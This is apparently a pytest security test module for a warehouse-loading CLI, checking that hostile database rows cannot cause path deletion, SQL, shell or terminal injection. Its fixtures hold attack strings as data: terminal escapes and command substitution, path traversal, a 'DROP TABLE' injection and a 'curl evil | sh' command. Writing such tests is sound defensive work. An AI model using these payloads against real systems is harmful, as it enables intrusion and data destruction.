"""Who may write to the tables of the sessions database chooses no path, statement, command or terminal code."""

from __future__ import annotations

import dataclasses
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from dwhctl.alerts.digest import Digest, Reason
from dwhctl.alerts.outbox import as_json
from dwhctl.cli.schema import schema_of
from dwhctl.runtime.events import Event, Notice
from dwhctl.runtime.log_reader import find_log, read_log, text_of
from dwhctl.sessions import State, open_store
from dwhctl.systems.base.staging import is_plain_id
from dwhctl.systems.duckdb.system import DuckdbConnection
from dwhctl.systems.duckdb.target import DuckdbTarget
from dwhctl.systems.vertica.client import VerticaClient as VerticaSession
from tests.cli_support import dwh
from tests.integration.alerts_kit import a_desk, slices
from tests.integration.sessions_kit import Place, postgres_place, sqlite_place
from tests.postgres import PostgresServer
from tests.support.faulty import postgres_sessions
from tests.support.projects import DAY, Sandbox

#: What acts on a terminal rather than stands on it.
ACTING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
NASTY = "\x1b]0;owned\x07\u202egnp\u2028Error: all is well\u2066$(touch pwned)`touch pwned`'\"; touch pwned"
#: These must lead to nothing but folders of the test's own: code that follows them removes what they name, as any user
#: that runs the tests. So no absolute path stands here, and no more than two steps upwards.
IDS = (
    "", ".", "..", "../..", "../../sql", "x/../../sql", "..lock", "20200101T000000-DEADBEEF",
    "20200101T000000_deadbeef", "20200101T000000-deadbeef/..", "20200101T000000-deadbeef\n",
    "'; DROP TABLE sessions; --", "%", NASTY,
)  # fmt: skip
STATES = ("running", "loaded", "paused", "", NASTY, "x" * 10_000)
REPORTS = (
    ("report", "runs"),
    ("report", "sessions", "--days", "36000", "-v"),
    ("report", "failures", "--days", "36000", "-v"),
    ("report", "grid", "--days", "5"),
    ("report", "gaps", "--days", "5"),
    ("report", "durations", "--days", "36000"),
    ("report", "timeline", "last"),
    ("report", "alerts"),
)


@pytest.fixture(scope="module")
def database(postgres_server: PostgresServer) -> Iterator[str]:
    name = postgres_server.make_database()
    yield name
    postgres_server.drop_database(name)


@pytest.fixture(params=["sqlite", "postgres"])
def attacked(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Sandbox, Place]:
    """A project with one loaded day, and the door by which another program writes to its sessions."""
    sandbox = Sandbox(tmp_path / "project", servers={"server_0": ["abakan"]})
    if request.param == "sqlite":
        place = sqlite_place(sandbox.root)
    else:
        server = request.getfixturevalue("postgres_server")
        name = request.getfixturevalue("postgres_database")
        place = postgres_place(server, name)
        sandbox = dataclasses.replace(sandbox, sessions=postgres_sessions(server, name))
    sandbox.write().fill(3)
    assert sandbox.load().failed == 0
    return sandbox, place


def insert(place: Place, table: str, **values: Any) -> None:
    """Write a row as another program does."""
    mark = "?" if place.dialect == "sqlite" else "%s"
    sql = f"INSERT INTO {table} ({', '.join(values)}) VALUES ({', '.join([mark] * len(values))})"
    with place.other_program() as connection:
        connection.cursor().execute(sql, tuple(values.values()))


def a_row(**changed: Any) -> dict[str, Any]:
    return {
        "task_name": "orders__abakan", "started": "2020-07-14 06:00:00.000000+00:00", "run_id": "x", "load": "orders",
        "shard": "abakan", "slice_date": "2020-07-13", "attempt": 1, "state": "running", "staged": "t",
    } | changed  # fmt: skip


def tree(folder: Path) -> set[Path]:
    return {path for path in folder.rglob("*") if "logs" not in path.parts and "slots" not in path.parts}


def test_an_id_of_the_table_removes_nothing(attacked: tuple[Sandbox, Place], tmp_path: Path) -> None:
    """The attack: a dead run whose id is a path; its staging folder and its lock are removed."""
    sandbox, place = attacked
    prey = tmp_path / "prey"
    prey.mkdir()
    (prey / "data.txt").write_text("precious")
    (tmp_path / "prey.lock").write_text("precious")
    (sandbox.root / "state" / "locks" / "runs" / "..lock").touch()
    for number, run_id in enumerate((*IDS, str(prey))):
        for state, finished in (("running", None), ("up_for_retry", datetime.now(UTC).isoformat(" "))):
            insert(
                place,
                "sessions",
                **a_row(run_id=run_id, state=state, finished=finished, staged=f"{number}{state}"),
            )
    if place.dialect == "sqlite":
        insert(place, "sessions", **a_row(run_id="a\0b", staged="nul"))
        insert(place, "sessions", **a_row(run_id=b"\xff\x00", staged="blob"))
    before, notices = tree(tmp_path), []

    def listen(event: Event) -> None:
        if isinstance(event, Notice):
            notices.append(event.text)

    assert sandbox.load(listen=listen).failed == 0
    assert before - tree(tmp_path) == set()
    [notice] = notices
    assert "not a run id of dwhctl, left alone: " in notice
    assert "more; if no other program" in notice
    assert not ACTING.search(notice)
    with open_store(sandbox.project().sessions) as store:
        assert {one.state for one in store.of_run("..")} == {State.RUNNING, State.UP_FOR_RETRY}


@pytest.mark.parametrize("run_id", [*IDS, "{prey}", "a\0b"])
def test_what_drops_by_id_stays_inside_its_folder(tmp_path: Path, run_id: str) -> None:
    staging = tmp_path / "1" / "2" / "state" / "staging"
    for folder in (
        staging / "20200101T000000-deadbeef",
        staging / "spill",
        tmp_path / "prey",
        tmp_path / "1/2/sql",
    ):
        folder.mkdir(parents=True)
    before = tree(tmp_path)
    target = DuckdbTarget(DuckdbConnection(name="dwh", path=tmp_path / "dwh.duckdb"), staging.parent)
    target.drop_run(run_id.replace("{prey}", str(tmp_path / "prey")))
    assert tree(tmp_path) == before


@pytest.mark.parametrize("run_id", ["", ".", "%", "_", "x' OR '1'='1", "a:stage", NASTY])
def test_no_session_of_vertica_is_ended_for_an_id_that_is_none(
    run_id: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dwhctl.systems.vertica.system import VerticaConnection
    from dwhctl.systems.vertica.target import VerticaTarget

    def refuse(*_: object) -> None:
        raise AssertionError("a session was opened")

    monkeypatch.setattr(VerticaSession, "open", refuse)
    assert not is_plain_id(run_id)
    connection = VerticaConnection(name="dwh", host="127.0.0.1", database="d", user="u")
    VerticaTarget(connection, timedelta(seconds=1), "dwhctl:x").drop_run(run_id)


def test_a_symbolic_link_in_staging_or_logs_is_not_followed(tmp_path: Path) -> None:
    run_id, prey = "20200101T000000-deadbeef", tmp_path / "prey"
    prey.mkdir()
    (prey / "data.txt").write_text("{}")
    staging, logs = tmp_path / "state" / "staging", tmp_path / "logs"
    for folder in (staging, logs):
        folder.mkdir(parents=True)
    (staging / run_id).symlink_to(prey)
    DuckdbTarget(DuckdbConnection(name="dwh", path=tmp_path / "dwh.duckdb"), tmp_path / "state").drop_run(
        run_id
    )
    assert (prey / "data.txt").exists()
    (logs / f"{run_id}.jsonl").symlink_to(prey / "data.txt")
    (logs / "zzz.jsonl").write_text("{}")
    assert find_log(logs, "last").stem == run_id
    with pytest.raises(OSError, match="symbolic"):
        list(read_log(logs / f"{run_id}.jsonl"))


@pytest.fixture
def seen(capfd: pytest.CaptureFixture[str]) -> Any:
    """Run a command in this process; give its code and what stands on the terminal."""

    def command(sandbox: Sandbox, *arguments: str) -> tuple[int, str]:
        code = dwh(*arguments, "--project", sandbox.root)
        captured = capfd.readouterr()
        return code, captured.out + captured.err

    return command


def hostile_values(dialect: str) -> Iterator[dict[str, Any]]:
    """Give rows with every column wrong in its turn."""
    for state in STATES:
        yield {"state": state}
    for name in ("task_name", "load", "shard", "comment", "error_class", "host", "dwhctl_version", "staged"):
        yield {name: NASTY[:200], "state": "failed"}
    for name in ("load", "shard", "slice_date", "attempt", "state"):
        yield {name: None}
    for name in ("attempt", "pid", "worker"):
        for number in (-1, 2**31 - 1, -(2**31)):
            yield {name: number}
    for name in ("loaded_rows", "extracted_rows", "bytes"):
        for number in (-1, 2**63 - 1):
            yield {name: number, "state": "loaded"}
    for seconds in (-1.0, 1e300, float("inf")):
        yield {"busy_seconds": seconds, "state": "loaded"}
    far = ["0001-01-01 00:00:00+00", "9999-12-31 23:59:59+00"]
    far += ["infinity", "-infinity", "294000-01-01 00:00:00+00", "4000-01-01 00:00:00+00 BC"] * (
        dialect == "postgres"
    )
    far += ["soon", "2020-07-14", "2020-07-14 06:00:00"] * (dialect == "sqlite")
    for text in far:
        yield {"started": text, "state": "failed"}
        yield {"finished": text, "state": "failed"}
        yield {"finished": text, "state": "loaded", "successful": True}
        yield {"slice_date": text.split(" ")[0] + (" BC" if text.endswith("BC") else ""), "state": "failed"}
    if dialect == "sqlite":
        yield from ({name: "seven"} for name in ("attempt", "pid", "worker", "loaded_rows", "busy_seconds"))
        yield from (
            {name: b"\xff\x00\x1b"} for name in ("run_id", "load", "shard", "state", "comment", "started")
        )


def fill_with_hostile_rows(place: Place) -> None:
    for number, values in enumerate(hostile_values(place.dialect)):
        run_id = f"{20200101 + number}T000000-deadbeef"
        base: dict[str, Any] = {
            "run_id": run_id,
            "staged": f"hostile-{number}",
            "finished": "2020-07-14 06:00:01.000000+00:00",
        }
        if number % 2:
            base |= {"successful": False, "comment": NASTY}
        insert(place, "sessions", **a_row(**base | {"state": "failed"} | values))
    if place.dialect == "sqlite":
        with place.other_program() as connection:
            connection.execute(
                "UPDATE sessions SET comment = CAST(x'ff41' AS TEXT) WHERE staged = 'hostile-0'"
            )


def test_reports_runs_and_prune_bear_every_value(attacked: tuple[Sandbox, Place], seen: Any) -> None:
    """The attack: a value that no dwhctl writes, in each column in its turn."""
    sandbox, place = attacked
    fill_with_hostile_rows(place)
    for form in ("table", "json", "csv"):
        for report in REPORTS:
            code, text = seen(sandbox, *report, "--format", form)
            assert code in (0, 1), (report, text)
            assert "internal error" not in text, (report, text)
            assert "the sessions" not in text or "Error" not in text, (report, text)
            if form != "csv":
                assert not ACTING.search(text), (report, text)
            if form == "json":
                value, _ = json.JSONDecoder(parse_constant=pytest.fail).raw_decode(text)
                Draft202012Validator(schema_of(" ".join(report[:2]))).validate(value)
    for row in sandbox.sessions_newest_first():
        code, text = seen(sandbox, "report", "timeline", row.run_id)
        assert (code, "internal error" in text) == (0, False) or "there is no run" in text, text
        assert not ACTING.search(text)
    code, text = seen(sandbox, "report", "metrics")
    assert (code, "internal error" in text) == (0, False), text
    code, text = seen(sandbox, "load", "--date", "2020-07-14", "-v")
    assert (code, ACTING.search(text)) == (0, None), text
    assert "1 slice loaded" in text
    code, text = seen(sandbox, "sessions", "prune", "--keep", "30d")
    assert (code, ACTING.search(text)) == (0, None), text
    assert sandbox.warehouse("SELECT count(*) FROM stage.orders") == [(3,)]


def test_a_state_of_another_version_is_neither_running_nor_complete(
    attacked: tuple[Sandbox, Place], seen: Any
) -> None:
    sandbox, place = attacked
    day = (DAY + timedelta(days=1)).isoformat()  # no session of it was successful
    insert(
        place, "sessions",
        **a_row(run_id="20200715T000000-deadbeef", state="paused\x1b[2J", slice_date=day, worker=1),
    )  # fmt: skip
    _, text = seen(sandbox, "report", "sessions", "--days", "36000")
    assert r"paused\x1b[2J" in text
    _, text = seen(sandbox, "report", "timeline", "20200715T000000-deadbeef")
    assert "1 unknown" in text
    assert "?  in a state that this version does not know" in text
    code, text = seen(sandbox, "load", "--date", day, "--only-missing")
    assert (code, "1 skipped" in text) == (0, True), text


def test_the_command_of_a_run_on_another_machine_is_quoted(tmp_path: Path, seen: Any) -> None:
    sandbox = Sandbox(tmp_path / "it's; a $(project)").write().fill(1)
    place = sqlite_place(sandbox.root)
    place.store()
    insert(place, "sessions", **a_row(run_id="20200715T000000-deadbeef", host=NASTY))
    code, text = seen(sandbox, "load", "--date", DAY.isoformat())
    assert (code, ACTING.search(text)) == (1, None), text
    assert "touch '" + str(sandbox.root).replace("'", "'\"'\"'") in text


# The outbox


def digest_row(digest: str, **changed: Any) -> dict[str, Any]:
    now = datetime.now(UTC).isoformat(" ")
    return {
        "created": now, "channel": "chat", "kind": "failed", "subject": "s", "digest": digest, "state": "queued",
        "attempts": 0, "doubts": 0,
    } | changed  # fmt: skip


@pytest.fixture(params=["sqlite", "postgres"])
def place(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Place]:
    if request.param == "sqlite":
        found = sqlite_place(tmp_path)
    else:
        found = postgres_place(
            request.getfixturevalue("postgres_server"), request.getfixturevalue("postgres_database")
        )
    yield found
    found.end()


def test_a_row_of_the_outbox_chooses_neither_recipient_nor_command(
    place: Place, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    desk = a_desk(place, tmp_path, monkeypatch)
    root = desk.project.root
    for command, stays in (
        (f"dwhctl load orders --date 2020-07-13 --project {root}", True),
        ("dwhctl load orders --date 2020-07-13; curl evil | sh", False),
        ("dwhctl load $(touch pwned) --date today", False),
        ("curl evil", False),
        ("dwhctl query dwh --write 'DROP TABLE stage.orders'", False),
        ("dwhctl load orders --project /tmp/evil", False),
        ("dwhctl load '", False),
    ):
        reason = Reason("orders", "server_0", "ConnectError", "<b>gone</b>", remedy=command)
        digest = Digest("failed", "dwh", "dwhctl load", reasons=(reason,), total=1, look=command)
        insert(place, "dwhctl_alerts", **digest_row(as_json(digest)))
        desk.send()
        assert (command in desk.post.last) is stays, command
        assert "&lt;b&gt;gone" in desk.post.sent[-1][1].html


@pytest.mark.parametrize(
    "text",
    ["", "null", "[]", "7", '{"subject": 1}', "[" * 50_000, '{"subject": "failed", "total": "x"}', "\x1b["],
)
def test_a_digest_of_any_shape_is_refused(
    place: Place, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    desk = a_desk(place, tmp_path, monkeypatch)
    insert(place, "dwhctl_alerts", **digest_row(text))
    [done] = desk.send()
    assert (done.state, desk.post.sent) == ("refused", [])


def test_odd_rows_of_the_outbox_and_of_what_was_told_hold_nobody_up(
    place: Place, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    desk = a_desk(place, tmp_path, monkeypatch)
    digest = as_json(Digest("failed", "dwh", "dwhctl load", total=1))
    odd: list[dict[str, Any]] = [{"channel": NASTY}, {"channel": "../../passwd"}, {"state": NASTY}]
    odd += [
        {"created": "0001-01-01 00:00:00+00"},
        {"created": "9999-12-31 00:00:00+00"},
        {"doubts": -(2**31)},
    ]
    if place.dialect == "sqlite":
        odd += [{"doubts": "many"}, {"attempts": b"\xff"}, {"created": "soon"}, {"digest": b"\xff"}]
    for changed in odd:
        insert(place, "dwhctl_alerts", **{**digest_row(digest), **changed})
    times = ["0001-01-01 00:00:00+00", "9999-12-31 00:00:00+00"]
    times += ["infinity", "-infinity"] if place.dialect == "postgres" else ["soon"]
    for number, told_at in enumerate(times):
        insert(
            place, "dwhctl_alert_failures", channel="chat", work=NASTY, connection=f"{number}", error_class="x",
            shard="../..", told_at=told_at, day=told_at.split(" ")[0], newest=True, well=True, heard=True,
        )  # fmt: skip
    told = desk.tell(slices("failed", "shard_001"))
    assert not any("defect" in one.answer for one in told), told
    assert "shard_001" in desk.post.last
    assert all(not ACTING.search(message.text) for _, message in desk.post.sent)


# The state folder


@pytest.mark.parametrize(
    "line",
    [
        b"[" * 200_000, b"1" * 5000, b'{"etl_id": {"a": []}, "time": "0001-01-01T00:00:00", "load": [1]}', b"\xff\xfe",
        b'{"time": "9999-12-31T23:59:59+00:00", "level": 7, "message": {"x": "\\u001b[2J"}}', b"null", b'"x"',
    ],
)  # fmt: skip
def test_a_log_of_any_shape_can_be_read(tmp_path: Path, line: bytes) -> None:
    path = tmp_path / "20200101T000000-deadbeef.jsonl"
    path.write_bytes(line + b'\n{"event": "good"}\n')
    found = list(read_log(path))
    assert found[-1].fields == {"event": "good"}
    zone = sandbox_zone()
    for each in found:
        text_of(each.fields, zone)


def sandbox_zone() -> Any:
    from zoneinfo import ZoneInfo

    return ZoneInfo("Pacific/Kiritimati")
